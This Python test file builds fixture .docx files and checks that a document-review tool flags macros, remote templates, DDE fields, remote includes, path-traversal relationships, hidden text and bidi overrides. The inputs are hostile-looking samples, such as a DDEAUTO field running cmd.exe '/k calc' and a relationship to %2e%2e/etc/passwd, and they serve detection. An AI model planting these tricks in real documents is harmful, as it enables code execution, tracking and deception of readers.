"""Documents that act, reach out or mislead, but can be read: everything is read, and a person looks first."""

from tests.documents.review.corpus.case import Expectation, Made, case, expect
from tests.documents.review.corpus.told import LEAD, WHEN, change, term
from tests.documents.review.returned import BASELINE, DOCUMENT, TERM, WHO, Draft, compound, deleted, ins, run

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = "[Content_Types].xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_BEGIN, _SEPARATE, _END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
_MACROS = compound(**{"PROJECT": b"x", "_VBA_PROJECT": b"y"})


def looked_at(*warnings: str, **told: object) -> Expectation:
    """What a readable file with something suspicious in it reads as."""
    return expect(status="review", warnings_include=list(warnings), max_seconds=3, max_rss_mb=250, **told)


def _field(*instructions: str, tag: str = "instrText") -> str:
    parts = "".join(f'<w:r><w:{tag} xml:space="preserve">{one}</w:{tag}></w:r>' for one in instructions)
    return _BEGIN + parts + _SEPARATE + run(TERM) + _END


def _typed(draft: Draft, kind: str) -> Draft:
    return draft.replace(_MAIN, kind, _TYPES)


@case("h91-macros-told")
def _macros() -> Made:
    """A macro document that says so, with its project beside it"""
    draft = _typed(Draft(), "application/vnd.ms-word.document.macroEnabled.main+xml")
    draft.parts["word/vbaProject.bin"] = _MACROS
    draft.relate("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    return draft, looked_at("MACRO", container={"kind": "docm"})


@case("h92-macros-renamed")
def _renamed() -> Made:
    """The project under the name of a picture, with no type and no relationship that tells"""
    draft = Draft()
    draft.parts["word/media/image7.png"] = _MACROS
    return draft, looked_at("MACRO")


@case("h93-macros-by-type")
def _by_type() -> Made:
    """The project under a harmless name, known by its content type only"""
    draft = Draft()
    draft.parts["word/data.bin"] = b"x"
    override = (
        '<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return draft.replace("</Types>", override, _TYPES), looked_at("MACRO")


@case("h94-template-from-a-server")
def _template() -> Made:
    """An attached template on a share: Word would fetch and run it"""
    draft = Draft().relate(
        "attachedTemplate", "\\\\192.0.2.7\\t\\a.dotm", owner="word/settings.xml", external=True
    )
    return draft, looked_at("EXTERNAL_TEMPLATE")


@case("h95-picture-from-a-server")
def _picture() -> Made:
    """A linked picture tells a stranger that the draft was opened"""
    draft = Draft().relate("image", "http://192.0.2.7/a.png", owner="word/header1.xml", external=True)
    return draft, looked_at("EXTERNAL_IMAGE")


@case("h96-picture-named-in-vml")
def _vml() -> Made:
    """A picture whose address stands in the drawing itself"""
    drawing = '<w:r><w:pict><v:shape><v:imagedata src="http://192.0.2.7/a.png"/></v:shape></w:pict></w:r>'
    return Draft().paragraph(TERM, run(TERM) + drawing), looked_at("EXTERNAL_IMAGE")


@case("h97-mail-merge-source")
def _merge() -> Made:
    """A data source for a mail merge"""
    draft = Draft().relate("mailMergeSource", "file:///C:/data.mdb", owner="word/settings.xml", external=True)
    return draft, looked_at("EXTERNAL_OTHER")


@case("h98-link-to-a-share")
def _share() -> Made:
    """A hyperlink that opens a file on a share"""
    draft = Draft().relate("hyperlink", "file://192.0.2.7/bagi/a.lnk", external=True)
    return draft, looked_at("EXTERNAL_OTHER")


@case("h99-ordinary-link")
def _link() -> Made:
    """A hyperlink to a web page and one to an address are what people write"""
    draft = Draft().relate("hyperlink", "https://ppid.example.go.id/", external=True)
    return draft.relate("hyperlink", "mailto:ppid@example.go.id", external=True), expect(
        warnings_exclude=["EXTERNAL_OTHER"]
    )


@case("h101-object-embedded")
def _object() -> Made:
    """An embedded object: a package with anything inside"""
    draft = Draft()
    draft.parts["word/embeddings/oleObject1.bin"] = compound(Package=b"x")
    draft.relate("oleObject", "embeddings/oleObject1.bin")
    shape = '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId700"/></w:object></w:r>'
    return draft.paragraph(TERM, run(TERM) + shape), looked_at("OLE_OBJECT")


@case("h102-object-under-another-name")
def _hidden_object() -> Made:
    """An OLE file among the pictures, which nothing refers to"""
    draft = Draft()
    draft.parts["word/media/image8.jpeg"] = compound(Package=b"x")
    return draft, looked_at("OLE_OBJECT")


@case("h103-activex")
def _activex() -> Made:
    """An ActiveX control"""
    draft = Draft().relate("control", "activeX/activeX1.xml")
    return draft.paragraph(TERM, run(TERM) + '<w:r><w:control r:id="rId700"/></w:r>'), looked_at("ACTIVEX")


@case("h104-foreign-content-merged")
def _chunk() -> Made:
    """A web page that Word would merge on opening"""
    draft = Draft().replace("<w:sectPr", '<w:altChunk r:id="rId700"/><w:sectPr')
    draft.parts["word/a.html"] = b"<html><script>x</script></html>"
    return draft.relate("aFChunk", "a.html"), looked_at("ALTCHUNK")


@case("h105-dde")
def _dde() -> Made:
    """A DDEAUTO field, its instruction torn over three runs"""
    draft = Draft().paragraph(TERM, _field(" DD", "EAU", 'TO c:\\\\Windows\\\\cmd.exe "/k calc" '))
    return draft, looked_at("FIELD_ACTIVE")


@case("h106-dde-spelled-by-quote")
def _quoted() -> Made:
    """The word DDE spelled as character numbers by a nested QUOTE field"""
    nested = _BEGIN + _field(" QUOTE 68 68 69 ") + _SEPARATE + run(TERM) + _END
    draft = Draft().paragraph(TERM, nested)
    return draft, {**looked_at("FIELD_ACTIVE"), "fields_free": True, "untracked_free": True, "proposals": []}


@case("h107-dde-out-of-a-condition")
def _conditional() -> Made:
    """The word DDE as the result of an IF field"""
    draft = Draft().paragraph(TERM, _field(' IF 1 = 1 "DDE" "" '))
    return draft, looked_at("FIELD_ACTIVE")


@case("h108-text-fetched")
def _included() -> Made:
    """INCLUDETEXT and INCLUDEPICTURE as simple fields"""
    simple = '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://192.0.2.7/a.docx&quot; ">{0}</w:fldSimple>'
    return Draft().paragraph(TERM, simple.format(run(TERM))), looked_at("FIELD_ACTIVE")


@case("h109-field-in-a-deletion")
def _deleted_field() -> Made:
    """A field deleted with tracking: rejecting the change would bring it back"""
    gone = _field(' INCLUDEPICTURE "http://192.0.2.7/a.png" ', tag="delInstrText").replace(run(TERM), "")
    draft = Draft().paragraph(TERM, run(TERM) + f'<w:del w:id="1" {WHO}>{gone}</w:del>')
    return draft, looked_at("FIELD_ACTIVE")


@case("h110-field-in-a-header-not-shown")
def _unseen_header() -> Made:
    """A DDE field in a header for first pages, which this document does not use"""
    header = f'<w:hdr xmlns:w="{_W}"><w:p>{_field(" DDE Excel a ")}</w:p></w:hdr>'
    draft = Draft().add_part("word/header9.xml", header, "header", f"{_WORD}.header+xml")
    return draft, looked_at("FIELD_ACTIVE")


@case("h111-field-in-a-comment")
def _comment_field() -> Made:
    """A LINK field in a comment"""
    text = f'<w:comments xmlns:w="{_W}"><w:comment w:id="0" w:author="A"><w:p>{_field(" LINK Excel.Sheet a ")}</w:p></w:comment></w:comments>'
    draft = Draft().add_part("word/comments.xml", text, "comments", f"{_WORD}.comments+xml")
    told = [{"author": "A", "text": TERM}]
    return draft, looked_at("FIELD_ACTIVE", comments=told)


@case("h112-field-in-a-building-block")
def _glossary() -> Made:
    """A MACROBUTTON field among the building blocks"""
    body = f"<w:docPartBody><w:p>{_field(' MACROBUTTON x y ')}</w:p></w:docPartBody>"
    text = f'<w:glossaryDocument xmlns:w="{_W}"><w:docParts><w:docPart>{body}</w:docPart></w:docParts></w:glossaryDocument>'
    name, kind = "word/glossary/document.xml", f"{_WORD}.document.glossary+xml"
    return Draft().add_part(name, text, "glossaryDocument", kind), looked_at("FIELD_ACTIVE")


@case("h113-harmless-fields")
def _harmless() -> Made:
    """Dates, references and page numbers are ordinary"""
    return Draft().paragraph(TERM, _field(' REF _ppid_judul \\h "DD" ')), expect(
        warnings_exclude=["FIELD_ACTIVE"]
    )


@case("h114-hidden-run")
def _hidden() -> Made:
    """Hidden text behind a field's own: part of the text, and told"""
    added = run(" dan seterusnya", "<w:vanish/>")
    final = f"{TERM} dan seterusnya"
    told = {"jangka_waktu": {"status": "untracked", "original": final, "final": final}}
    proposed = {"field": "jangka_waktu", "from": TERM, "to": final, "basis": "untracked"}
    edits = [{"field": "jangka_waktu", "before": TERM, "after": final}]
    return Draft().paragraph(TERM, run(TERM) + added), looked_at(
        "HIDDEN_TEXT", fields=told, untracked=edits, proposals=[proposed]
    )


@case("h115-hidden-by-a-style")
def _hidden_style() -> Made:
    """A tracked insertion whose character style hides it, by inheritance"""
    styles = (
        '<w:style w:type="character" w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style>'
        '<w:style w:type="character" w:styleId="b"><w:basedOn w:val="a"/></w:style>'
    )
    added = ins(" rahasia").replace("<w:rPr>", '<w:rPr><w:rStyle w:val="b"/>')
    draft = Draft().replace("</w:styles>", f"{styles}</w:styles>", "word/styles.xml")
    draft.paragraph(TERM, run(TERM) + added)
    final = f"{TERM} rahasia"
    proposed = {"field": "jangka_waktu", "from": TERM, "to": final, "basis": "tracked"}
    return draft, looked_at(
        "HIDDEN_TEXT",
        changes=[change("ins", " rahasia", hidden=True)],
        fields=term(final),
        proposals=[proposed],
    )


@case("h116-white-on-white")
def _white() -> Made:
    """An insertion in white on white paper"""
    added = ins(" rahasia").replace("<w:rPr>", '<w:rPr><w:color w:val="FFFFFF"/>')
    return Draft().paragraph(TERM, run(TERM) + added), {
        **looked_at("HIDDEN_TEXT"),
        "changes": [change("ins", " rahasia")],
        "fields": term(f"{TERM} rahasia"),
        "proposals": [{"field": "jangka_waktu", "to": f"{TERM} rahasia"}],
    }


@case("h117-white-on-blue")
def _white_on_blue() -> Made:
    """White text on a shaded cell is ordinary design"""
    draft = Draft()
    row = draft.row("F08")
    shaded = row.replace("</w:tcPr>", '<w:shd w:val="clear" w:fill="1F3864"/></w:tcPr>')
    white = shaded.replace("<w:rPr>", '<w:rPr><w:color w:val="FFFFFF"/>')
    return draft.replace(row, white), expect(warnings_exclude=["HIDDEN_TEXT"])


@case("h118-one-point-letters")
def _tiny() -> Made:
    """An insertion in letters of one point"""
    added = ins(" rahasia").replace("<w:rPr>", '<w:rPr><w:sz w:val="2"/>')
    return Draft().paragraph(TERM, run(TERM) + added), {
        **looked_at("HIDDEN_TEXT"),
        "changes": [change("ins", " rahasia")],
        "fields": term(f"{TERM} rahasia"),
        "proposals": [{"field": "jangka_waktu", "to": f"{TERM} rahasia"}],
    }


@case("h119-text-turned-round")
def _turned() -> Made:
    """An override character that shows 5 as 2: the text is read as it is stored"""
    added = ins(" \u202e01\u202c")
    final = f"{TERM} \u202e01\u202c"
    return Draft().paragraph(TERM, run(TERM) + added), {
        **looked_at("BIDI_CONTROL"),
        "changes": [change("ins", " \u202e01\u202c")],
        "fields": term(final),
        "proposals": [{"field": "jangka_waktu", "to": final}],
    }


@case("h120-name-turned-round")
def _turned_name() -> Made:
    """The same in the name of who changed something"""
    who = f'w:author="\u202eijuteS\u202c" w:date="{WHEN}"'
    draft = Draft().paragraph(TERM, run(TERM) + ins(" ini", who))
    return draft, {
        **looked_at("BIDI_CONTROL"),
        "changes": [change("ins", " ini", author="\u202eijuteS\u202c")],
        "fields": term(f"{TERM} ini"),
        "proposals": [{"field": "jangka_waktu"}],
    }


@case("h121-relationship-that-climbs")
def _climbs() -> Made:
    """A relationship whose target leaves the package, its dots written as %2e"""
    return Draft().relate("image", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"), looked_at("REL_ESCAPE")


@case("h122-relationship-to-a-file")
def _file() -> Made:
    """An internal relationship that names a file of the PC"""
    return Draft().relate("image", "file:///C:/Windows/win.ini"), looked_at("REL_ESCAPE")


@case("h123-comments-in-a-circle")
def _circle() -> Made:
    """Two comments, each the answer to the other"""
    ns = f'xmlns:w="{_W}" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
    one = '<w:comment w:id="{0}" w:author="A"><w:p w14:paraId="0000000{0}"><w:r><w:t>k{0}</w:t></w:r></w:p></w:comment>'
    text = f"<w:comments {ns}>{one.format(1)}{one.format(2)}</w:comments>"
    entry = '<w15:commentEx w15:paraId="0000000{0}" w15:paraIdParent="0000000{1}" w15:done="0"/>'
    more = f'<w15:commentsEx xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">{entry.format(1, 2)}{entry.format(2, 1)}</w15:commentsEx>'
    draft = Draft().add_part("word/comments.xml", text, "comments", f"{_WORD}.comments+xml")
    kind = "http://schemas.microsoft.com/office/2011/relationships/commentsExtended"
    draft.add_part("word/commentsExtended.xml", more, kind, f"{_WORD}.commentsExtended+xml")
    told = [{"author": "A", "text": "k1"}, {"author": "A", "text": "k2"}]
    warned = ["COMMENT_CYCLE", "COMMENT_ORPHAN"]
    return draft, {**expect(comments=told), "warnings_include": warned, "status": ["ok", "review"]}


@case("h124-comments-with-one-id")
def _one_id() -> Made:
    """Two comments of one id, and one that belongs nowhere"""
    one = '<w:comment w:id="{0}" w:author="A"><w:p><w:r><w:t>{1}</w:t></w:r></w:p></w:comment>'
    text = f'<w:comments xmlns:w="{_W}">{one.format(4, "a")}{one.format(4, "b")}{one.format(5, "c")}</w:comments>'
    mark = '<w:r><w:commentReference w:id="4"/></w:r><w:r><w:commentReference w:id="99"/></w:r>'
    draft = Draft().add_part("word/comments.xml", text, "comments", f"{_WORD}.comments+xml")
    told = [{"text": "a"}, {"text": "b"}, {"text": "c", "where": None}]
    warned = ["COMMENT_DUPLICATE_ID", "COMMENT_ORPHAN"]
    return draft.paragraph(TERM, run(TERM) + mark), {
        **expect(comments=told),
        "warnings_include": warned,
        "status": ["ok", "review"],
    }


@case("h125-nobody-wrote-this")
def _nobody() -> Made:
    """Personal data removed: every author is called Author"""
    who = f'w:author="Author" w:date="{WHEN}"'
    draft = Draft().paragraph(TERM, run(TERM) + ins(" ini", who))
    return draft, {
        **expect(fields=term(f"{TERM} ini"), proposals=[{"field": "jangka_waktu"}]),
        "changes": [change("ins", " ini", author="Author")],
        "warnings_include": ["ANONYMOUS_AUTHOR"],
    }


@case("h126-main-part-renamed")
def _renamed_main() -> Made:
    """The document under another name, found by its relationship"""
    draft = Draft()
    draft.parts["word/naskah.xml"] = draft.parts.pop(DOCUMENT)
    draft.parts["word/_rels/naskah.xml.rels"] = draft.parts.pop("word/_rels/document.xml.rels")
    draft.replace("/word/document.xml", "/word/naskah.xml", _TYPES)
    draft.replace("word/document.xml", "word/naskah.xml", "_rels/.rels")
    return draft, expect(exact_empty=True)


@case("h127-untouched-bytes")
def _untouched() -> Made:
    """The very bytes that went out come back"""
    data = (BASELINE / "draf-0017-r3.docx").read_bytes()
    return data, expect(exact_empty=True, warnings_include=["UNCHANGED_FILE"])


@case("h128-signature-of-another-in-a-moved-text")
def _everything_at_once() -> Made:
    """Template, hidden text and a fair correction in one file: the correction is read all the same"""
    draft = Draft().paragraph(
        TERM, deleted("5 (lima)") + ins("10 (sepuluh)") + run(" tahun sejak ditetapkan")
    )
    draft.paragraph("B. Uraian", run("B. Uraian") + run("x", "<w:vanish/>"))
    draft.relate("attachedTemplate", "https://192.0.2.7/a.dotm", owner="word/settings.xml", external=True)
    told = {
        "changes": [change("del", "5 (lima)", author=LEAD), change("ins", "10 (sepuluh)", author=LEAD)],
        "fields": term(),
        "proposals": [{"field": "jangka_waktu"}],
        "outside": [{"story": "body", "before": "B. Uraian", "after": "B. Uraianx"}],
    }
    return draft, {**looked_at("EXTERNAL_TEMPLATE", "HIDDEN_TEXT"), **told}
